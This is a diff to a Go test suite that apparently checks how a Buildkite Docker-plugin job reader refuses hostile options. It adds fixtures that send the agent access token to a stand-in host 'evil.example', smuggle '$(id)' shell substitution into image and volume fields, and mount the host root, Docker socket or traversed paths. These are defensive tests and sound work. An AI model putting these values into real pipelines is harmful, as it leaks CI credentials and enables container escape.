@@ -117,15 +117,18 @@ var hostile = []struct {
 	{"an image that is an option", "image", options(`"image":"--privileged"`)},
 	{"an image that is a list", "image", options(`"image":["a"]`)},
 	{"an image of the agent's token", "image", options(`"image":"evil.example/$BUILDKITE_AGENT_ACCESS_TOKEN","expand-image-vars":true`)},
+	{"an image of a token that the build sent, too", "image", map[string]string{"BUILDKITE_AGENT_ACCESS_TOKEN": "x", "BUILDKITE_PLUGINS": `[{"docker#v5.11.0":{"image":"evil.example/$BUILDKITE_AGENT_ACCESS_TOKEN","expand-image-vars":true}}]`}},
 	{"an image that a shell runs", "image", options(`"image":"$(id)","expand-image-vars":true`)},
 	{"an option in capitals", "Privileged", options(`"image":"a","Privileged":true`)},
-	{"an option with an underscore", "add_caps", options(`"image":"a","add_caps":["ALL"]`)},
+	{"an option with an underscore", "always_pull", options(`"image":"a","always_pull":true`)},
+	{"a refused option with an underscore", "add_caps", options(`"image":"a","add_caps":["ALL"]`)},
 	{"an option with an escape sequence", "x\x1b[2J", options(`"image":"a","x\u001b[2J":1`)},
 	{"privileged as text", "privileged", options(`"image":"a","privileged":"on"`)},
 	{"root of the node", "volumes", options(`"image":"a","volumes":["/:/host"]`)},
 	{"a directory above", "volumes", options(`"image":"a","volumes":["./../../etc:/host"]`)},
 	{"a directory above the cache", "volumes", options(`"image":"a","volumes":["/var/lib/buildkite-agent/cache/../x:/host"]`)},
 	{"a directory of a variable", "volumes", options(`"image":"a","volumes":["$HOME:/host"],"expand-volume-vars":true`)},
+	{"a directory that a shell names", "volumes", options(`"image":"a","volumes":["./$(id):/x"],"expand-volume-vars":true`)},
 	{"the socket of Docker", "volumes", options(`"image":"a","volumes":["/var/run/docker.sock:/var/run/docker.sock"]`)},
 	{"a named volume", "volumes", options(`"image":"a","volumes":["cache:/cache"]`)},
 	{"a mount over /proc", "volumes", options(`"image":"a","volumes":[".:/proc/sys"]`)},
@@ -147,6 +150,14 @@ var hostile = []struct {
 	{"files without end", "ulimits", options(`"image":"a","ulimits":["nofile=-1"]`)},
 	{"core files", "ulimits", options(`"image":"a","ulimits":["core=-1"]`)},
 	{"messages of others", "ulimits", options(`"image":"a","ulimits":["msgqueue=1"]`)},
+	{"no entrypoint as false", "entrypoint", options(`"image":"a","entrypoint":false`)},
+	{"a list of groups without end", "additional-groups", options(`"image":"a","additional-groups":["` + strings.Repeat(`1","`, 100) + `1"]`)},
+	{"capabilities that are none", "drop-caps", options(`"image":"a","drop-caps":["--x"]`)},
+	{"mounts without end", "volumes", options(`"image":"a","tmpfs":["/a` + strings.Repeat(`/a","/a`, 100) + `"]`)},
+	{"a mount over the agent", "volumes", options(`"image":"a","mount-buildkite-agent":true,"volumes":["./x:/usr/bin/buildkite-agent"]`)},
+	{"a group of a slot", "user", options(`"image":"a","user":"1000:kbnode-gpu1"`)},
+	{"a command of many words", "command", map[string]string{"BUILDKITE_COMMAND": "", "BUILDKITE_PLUGINS": `[{"docker#v5.11.0":{"image":"a","command":["` + strings.Repeat(`x","`, 5000) + `x"]}}]`}},
+	{"open files beyond all", "ulimits", options(`"image":"a","ulimits":["nofile=9999999"]`)},
 	{"a shell that is text", "shell", options(`"image":"a","shell":"/bin/sh -c"`)},
 	{"a variable without a name", "environment", options(`"image":"a","environment":["=x"]`)},
 	{"a list of variables that is not there", "env-propagation-list", options(`"image":"a","env-propagation-list":"NO_SUCH"`)},
@@ -214,6 +225,53 @@ func inert(t *testing.T, plain, s *job.Spec) {
 			}
 		}
 	}
+}
+
+// TestEnvironmentWins tests whose value counts where the agent replaced what was sent.
+func TestEnvironmentWins(t *testing.T) {
+	t.Parallel()
+	in := attack(map[string]string{"A": "sent", "B": "sent", "BUILDKITE_REDACTED_VARS": "NOTHING"})
+	in.Env["A"] = "environment"
+	delete(in.Env, "B")
+	delete(in.Env, "BUILDKITE_REDACTED_VARS")
+	s := read(t, in)
+	values := map[string]string{}
+	for _, v := range s.Env {
+		values[v.Name] = v.Value
+	}
+	if _, passed := values["B"]; passed || values["A"] != "environment" || len(s.Redact) > 0 {
+		t.Errorf("A=%s, B passed: %v, hidden: %q", values["A"], passed, s.Redact)
+	}
+	in = attack(map[string]string{"BUILDKITE_SECRETS_CONFIG": `[{"key":"x"}]`})
+	in.Env["BUILDKITE_SECRETS_CONFIG"] = ""
+	_, err := job.Read(in)
+	refused(t, err, "BUILDKITE_SECRETS_CONFIG")
+}
+
+func TestCheckout(t *testing.T) {
+	t.Parallel()
+	for name, tt := range map[string]struct {
+		vars map[string]string
+		want string
+	}{
+		"a script":                    {options(`"image":"a"`), job.CheckoutMirror},
+		"skipped":                     {options(`"image":"a","skip-checkout":true`), job.CheckoutNone},
+		"not mounted":                 {options(`"image":"a","mount-checkout":false`), job.CheckoutNone},
+		"a part of it mounted":        {options(`"image":"a","mount-checkout":false,"volumes":["./x:/x"]`), job.CheckoutMirror},
+		"an evaluation":               {options(`"image":"a","command":["kbnode","runner"]`), job.CheckoutNone},
+		"an evaluation with files":    {options(`"image":"a","command":["kbnode","runner"],"volumes":["./x:/x"]`), job.CheckoutMirror},
+		"an evaluation of a file":     {options(`"image":"a","command":["kbnode","runner","--payload","x"]`), job.CheckoutMirror},
+		"a repository without a name": {map[string]string{"BUILDKITE_REPO": ""}, job.CheckoutNone},
+	} {
+		if strings.Contains(tt.vars["BUILDKITE_PLUGINS"], "command") {
+			tt.vars["BUILDKITE_COMMAND"] = ""
+		}
+		if s := read(t, attack(tt.vars)); s.Checkout.Mode != tt.want {
+			t.Errorf("%s: %q, want %q", name, s.Checkout.Mode, tt.want)
+		}
+	}
+	_, err := job.Read(attack(map[string]string{"BUILDKITE_REPO": "", "BUILDKITE_PLUGINS": "", "BUILDKITE_COMMAND": "buildkite-agent pipeline upload"}))
+	refused(t, err, "BUILDKITE_REPO")
 }
 
 // TestVariablesOfTheAgent tests that no variable that buildkite-agent 3.76.2 reads changes a job,
@@ -285,9 +343,13 @@ func TestReadEnv(t *testing.T) {
 			t.Run(name+" of "+field, func(t *testing.T) {
 				t.Parallel()
 				got, err := read()
+				want := slices.Clone(tt.want)
+				if field == "BUILDKITE_ENV_JSON_FILE" {
+					slices.SortFunc(want, func(a, b job.Var) int { return strings.Compare(a.Name, b.Name) })
+				}
 				if tt.field != "" {
 					refused(t, err, field)
-				} else if diff := cmp.Diff(tt.want, got); err != nil || diff != "" {
+				} else if diff := cmp.Diff(want, got); err != nil || diff != "" {
 					t.Errorf("%v\n%s", err, diff)
 				}
 			})
